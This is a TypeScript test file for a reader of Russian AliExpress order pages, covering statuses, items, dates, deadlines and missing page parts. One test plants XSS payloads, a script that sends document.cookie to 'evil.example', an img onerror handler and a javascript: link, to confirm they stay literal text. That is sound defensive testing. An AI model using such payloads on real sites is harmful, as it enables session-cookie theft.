import { describe, expect, it } from 'vitest';
import { PageOrderSchema, type PageOrder } from '@/utils/model';
import { ruDetailReader } from '@/utils/pages/ru-detail';
import type { ReadResult } from '@/utils/pages/types';
import { formatDay, isoDay } from '../harness/fixtures';
import { fixtureDocument } from './support/dom';

/** Early January: the in-transit page's year-less "от 11 декабря" belongs to the previous year. */
const FIXED_TODAY = new Date(2026, 0, 10, 12, 0);
/** Mid-year: the same page read in July must not drift a year. */
const MID_YEAR = new Date(2026, 6, 15, 9, 30);

const IN_TRANSIT = { file: 'ru-detail-ru-in-transit.html', id: '5214398062177351' } as const;
const COMPLETED = { file: 'ru-detail-ru-completed.html', id: '5212313961591322' } as const;
const DISPUTE = { file: 'ru-detail-ru-dispute.html', id: '8213550917364410' } as const;
const PAGES = [IN_TRANSIT, COMPLETED, DISPUTE] as const;
type PageFile = (typeof PAGES)[number]['file'];
const pageOf = (file: PageFile) => PAGES.find((p) => p.file === file)!;

const pageUrl = (id: string) => `https://aliexpress.ru/order-list/${id}`;

function pageDocument(page: { file: string; id: string }, today = FIXED_TODAY): Document {
  return fixtureDocument(page.file, pageUrl(page.id), today);
}

function read(doc: Document, id: string, now = FIXED_TODAY): ReadResult {
  return ruDetailReader.read(doc, { url: new URL(pageUrl(id)), now });
}

function readOk(doc: Document, id: string, now = FIXED_TODAY): PageOrder {
  const result = read(doc, id, now);
  if (!result.ok) throw new Error(`page not read: ${result.reason}`);
  return result.order;
}

/** The local midnight starting a calendar day, in ms: a printed "до <day>" ends protection then. */
function startOfDay(isoDate: string): number {
  const [y, m, d] = isoDate.split('-').map(Number);
  return new Date(y!, m! - 1, d!).getTime();
}

describe('aliexpress.ru order page (V3), Russian', () => {
  it.each([
    [
      IN_TRANSIT.file,
      'awaiting_delivery',
      'В пути',
      -30,
      'LIMA Store',
      'https://aliexpress.ru/store/1102951120',
      '12 480,90 ₽',
      ['confirm_received', 'open_dispute', 'extend_protection'],
      'LP00612345678901',
      undefined,
    ],
    [
      COMPLETED.file,
      'completed',
      'Завершён',
      -75,
      'Vega Store',
      'https://aliexpress.ru/store/1101234567',
      '689,12 ₽',
      ['open_dispute', 'leave_feedback', 'add_to_cart'],
      undefined,
      undefined,
    ],
    [
      DISPUTE.file,
      'dispute_open',
      'Спор открыт',
      -41,
      'NANO Store',
      'https://aliexpress.ru/store/1109988776',
      '4 150,00 ₽',
      ['view_dispute', 'contact_seller'],
      'RU123456789CN',
      'Ожидаем ответа продавца',
    ],
  ] as const)(
    '%s: %s (“%s”), ordered day %i, %s',
    (file, status, statusText, orderedOffset, storeName, storeUrl, total, actions, trackingNumber, disputeState) => {
      const page = pageOf(file);
      const order = readOk(pageDocument(page), page.id);
      expect(PageOrderSchema.safeParse(order).success).toBe(true);
      expect(order).toMatchObject({
        orderId: page.id,
        site: 'aliexpress.ru',
        pageKind: 'ru-detail',
        status,
        statusText,
        orderedAt: isoDay(FIXED_TODAY, orderedOffset),
        store: { name: storeName, url: storeUrl },
        total,
        unread: [],
      });
      expect(order.actions).toEqual(actions);
      expect(order.trackingNumber).toBe(trackingNumber);
      expect(order.disputeState).toBe(disputeState);
    },
  );

  it.each([
    [
      IN_TRANSIT.file,
      0,
      'USB-C хаб 7 в 1 с HDMI 4K и зарядкой PD 100 Вт',
      '10 990,00 ₽',
      1,
      'https://aliexpress.ru/item/5005008452106512.html',
      'S6e7b2b9e5a0d4a0f9b2a6a1c1d3e5f7aX',
    ],
    [
      IN_TRANSIT.file,
      1,
      'Кабель USB-C – USB-C 240 Вт, 2 м',
      '745,45 ₽',
      2,
      'https://aliexpress.ru/item/5005003311224455.html',
      'S9e8d7c6b5a4f4e3d2c1b0a9f8e7d6c5bW',
    ],
    // The older build: no data-testid on products, read through its `…Product__*__dlsuj` classes.
    [
      COMPLETED.file,
      0,
      'Кабель HDMI 2.1 8K@60Hz 4K@120Hz, 2 м',
      '689,12 ₽',
      1,
      'https://aliexpress.ru/item/5005745176332016.html',
      'S414120c60bc24a2d9a8ce34a49f61967C',
    ],
    [
      DISPUTE.file,
      0,
      'Умные часы с AMOLED экраном и пульсометром',
      '4 150,00 ₽',
      1,
      'https://aliexpress.ru/item/5005004412345678.html',
      'S7a8b9c0d1e2f4a3b9c8d7e6f5a4b3c2dU',
    ],
  ] as const)('%s item %i: %s, %s × %i', (file, index, title, price, quantity, url, imageKey) => {
    const page = pageOf(file);
    const items = readOk(pageDocument(page), page.id).items;
    expect(items[index]).toEqual({
      title,
      price,
      quantity,
      url,
      imageUrl: `https://ae04.alicdn.com/kf/${imageKey}.jpg_220x220.jpg`,
    });
  });

  it.each([
    [IN_TRANSIT.file, 2],
    [COMPLETED.file, 1],
    [DISPUTE.file, 1],
  ] as const)('%s has exactly %i item(s)', (file, count) => {
    const page = pageOf(file);
    expect(readOk(pageDocument(page), page.id).items).toHaveLength(count);
  });

  it.each([
    ['early January', FIXED_TODAY],
    ['mid-year', MID_YEAR],
  ])('a year-less order date ("от <day> <month>") is the latest past such day (%s)', (_label, today) => {
    const order = readOk(pageDocument(IN_TRANSIT, today), IN_TRANSIT.id, today);
    expect(order.orderedAt).toBe(isoDay(today, -30));
  });

  it.each([-200, -300])(
    'an order date printed without a year %i days ago is still read as past, not as ahead',
    (offset) => {
      const doc = pageDocument(IN_TRANSIT);
      doc.querySelector('[class*="Header__date__"]')!.textContent =
        `от ${formatDay(FIXED_TODAY, offset, 'D MMMM', 'ru')}`;
      expect(readOk(doc, IN_TRANSIT.id).orderedAt).toBe(isoDay(FIXED_TODAY, offset));
    },
  );

  it('in transit: the printed protection date ends protection at the start of that day', () => {
    const order = readOk(pageDocument(IN_TRANSIT), IN_TRANSIT.id);
    expect(order.deadlines).toHaveLength(1);
    expect(order.deadlines[0]).toMatchObject({ kind: 'protection_end', confidence: 'exact' });
    expect(new Date(order.deadlines[0]!.at).getTime()).toBe(startOfDay(isoDay(FIXED_TODAY, 24)));
    expect(order.deadlines[0]!.pageText).toMatch(/^Защита покупателя до \d{1,2} \S+ \d{4} г\.$/);
  });

  it('completed: the receipt date is an event, and no protection deadline is kept', () => {
    const order = readOk(pageDocument(COMPLETED), COMPLETED.id);
    expect(order.events).toEqual({ deliveredAt: isoDay(FIXED_TODAY, -35) });
    expect(order.deadlines.filter((d) => d.kind === 'protection_end')).toEqual([]);
  });

  it('dispute: the day the dispute was opened is an event', () => {
    const order = readOk(pageDocument(DISPUTE), DISPUTE.id);
    expect(order.events.disputeOpenedAt).toBe(isoDay(FIXED_TODAY, -4));
  });
});

describe('rendering and identity', () => {
  it.each(PAGES.map((p) => p.file))('%s is rendered', (file) => {
    expect(ruDetailReader.isRendered(pageDocument(pageOf(file)))).toBe(true);
  });

  it('before the product block renders: not rendered, and read says why instead of guessing', () => {
    const doc = pageDocument(IN_TRANSIT);
    doc.querySelector('[class*="RedOrderDetailsProducts__box__"]')!.remove();
    expect(ruDetailReader.isRendered(doc)).toBe(false);
    const result = read(doc, IN_TRANSIT.id);
    expect(result.ok).toBe(false);
    expect(!result.ok && result.reason).toMatch(/not rendered/);
  });

  it('a page still showing another order (URL changed first) is not read as the new one', () => {
    const result = read(pageDocument(IN_TRANSIT), COMPLETED.id);
    expect(result.ok).toBe(false);
    expect(!result.ok && result.reason).toContain(IN_TRANSIT.id);
  });

  it('without the printed number: the id from the URL, the order date unread', () => {
    const doc = pageDocument(DISPUTE);
    doc.querySelector('[data-testid="orderNumber"]')!.remove();
    const order = readOk(doc, DISPUTE.id);
    expect(order.orderId).toBe(DISPUTE.id);
    expect(order.orderedAt).toBeUndefined();
    expect(order.unread).toEqual(['order date']);
  });

  it('a number whose grandparent is a whole page section: no order date rather than a protection date taken for it', () => {
    const doc = pageDocument(IN_TRANSIT);
    const number = doc.querySelector('[data-testid="orderNumber"]')!;
    doc.querySelector('[class*="Header__date__"]')!.remove();
    const section = doc.createElement('section');
    const row = doc.createElement('div');
    row.append(number);
    const notes = doc.createElement('p');
    notes.textContent = `Если посылка не придёт, откройте спор. ${'Подробнее о защите покупателя. '.repeat(10)}Защита покупателя до ${formatDay(FIXED_TODAY, -3, 'D MMMM', 'ru')}`;
    section.append(row, notes);
    doc.body.prepend(section);
    const order = readOk(doc, IN_TRANSIT.id);
    expect(order.orderedAt).toBeUndefined();
    expect(order.unread).toEqual(['order date']);
  });

  it('products without test ids or known classes: found through the product link (link → parent → parent)', () => {
    const doc = pageDocument(IN_TRANSIT);
    const expected = readOk(doc, IN_TRANSIT.id).items;
    for (const block of doc.querySelectorAll('[data-testid="productBlock"]')) {
      block.removeAttribute('data-testid');
      block.setAttribute('class', 'SomeNewModule_Row__x__zz9');
    }
    expect(readOk(doc, IN_TRANSIT.id).items).toEqual(expected);
  });
});

describe('a page with missing parts: partial facts, listed as unread, never a throw', () => {
  it.each([
    [
      'status heading, store and total',
      IN_TRANSIT.file,
      ['[class*="Status__title__"]', '[data-testid="sellerInfoV2Block"]', '[class*="Summary__total__"]'],
      ['status', 'store', 'total'],
    ],
    [
      'tracking number of an order in transit',
      IN_TRANSIT.file,
      ['[class*="InfoDeliveryButton__trackNumber__"]'],
      ['tracking number'],
    ],
    ['dispute block of an open dispute', DISPUTE.file, ['[class*="Dispute__root__"]'], ['dispute state']],
    [
      'product titles',
      COMPLETED.file,
      ['[class*="Product__title__"]', '[class*="Product__content__"] > a'],
      ['item title', 'items'],
    ],
  ] as const)('without the %s (%s)', (_label, file, removed, unread) => {
    const page = pageOf(file);
    const doc = pageDocument(page);
    for (const selector of removed) doc.querySelectorAll(selector).forEach((el) => el.remove());
    const order = readOk(doc, page.id);
    expect(order.unread).toEqual(unread);
    expect(PageOrderSchema.safeParse(order).success).toBe(true);
  });

  it('without its status heading, an order in transit is still placed by its buttons', () => {
    const doc = pageDocument(IN_TRANSIT);
    doc.querySelector('[class*="Status__title__"]')!.remove();
    expect(readOk(doc, IN_TRANSIT.id)).toMatchObject({ status: 'awaiting_delivery', statusText: '' });
  });

  it('an empty document: ok:false with a reason', () => {
    const doc = pageDocument(IN_TRANSIT);
    doc.body.replaceChildren();
    const result = read(doc, IN_TRANSIT.id);
    expect(result.ok).toBe(false);
    expect(!result.ok && result.reason.length).toBeGreaterThan(0);
  });
});

describe('hostile page text stays text', () => {
  it('markup in the title and store name is kept as literal text; a javascript: store link is dropped', () => {
    const doc = pageDocument(COMPLETED);
    const evilTitle = '<script>fetch("//evil.example/?c="+document.cookie)</script>Кабель';
    const evilStore = '<img src=x onerror=alert(1)>Vega Store';
    doc.querySelector('[class*="Product__title__"]')!.textContent = evilTitle;
    const store = doc.querySelector('[data-testid="sellerInfoV2"]')!;
    store.textContent = evilStore;
    store.setAttribute('href', 'javascript:alert(1)');
    const elementsBefore = doc.querySelectorAll('*').length;

    const order = readOk(doc, COMPLETED.id);
    expect(order.items[0]!.title).toBe(evilTitle);
    expect(order.store).toEqual({ name: evilStore });
    expect(doc.querySelectorAll('*').length).toBe(elementsBefore);
  });

  it('a tracking "number" that is really a sentence is not taken as one', () => {
    const doc = pageDocument(IN_TRANSIT);
    doc.querySelector('[class*="InfoDeliveryButton__trackNumber__"]')!.textContent = 'Трек-номер появится позже';
    const order = readOk(doc, IN_TRANSIT.id);
    expect(order.trackingNumber).toBeUndefined();
    expect(order.unread).toEqual(['tracking number']);
  });
});
